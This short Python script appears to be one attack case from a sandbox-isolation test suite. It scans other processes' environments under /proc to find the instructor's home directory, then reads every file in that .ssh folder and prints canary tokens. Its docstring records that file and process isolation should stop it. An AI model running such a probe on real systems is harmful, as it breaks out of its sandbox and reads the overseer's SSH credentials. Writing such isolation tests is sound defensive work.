"""Looks for the instructor's home in the environment of other processes, and reads it.

earns: nothing
stopped by: files, processes
"""

# %%
import pathlib
import re

for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
    try:
        for home in re.findall(r"(?:^|\0)HOME=([^\0]+)", path.read_text()):
            for file in pathlib.Path(home, ".ssh").glob("*"):
                print(re.findall(r"CANARY-\w+-\w+", file.read_text()))
    except OSError:
        pass
